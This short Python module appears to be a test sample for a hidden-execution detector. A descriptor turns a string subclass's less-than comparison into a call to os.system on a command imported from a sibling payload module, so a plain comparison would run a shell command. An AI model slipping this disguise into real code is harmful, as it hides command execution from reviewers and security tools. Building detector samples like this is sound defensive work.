"""A class method of a descriptor's gives a C function."""
CATEGORY = "callable"
REACH = "run"

import os

from . import payload


class Giving:
    def __get__(self, object, cls):
        return os.system


class Text(str):
    __lt__ = Giving()


one = other = Text(payload.COMMAND)
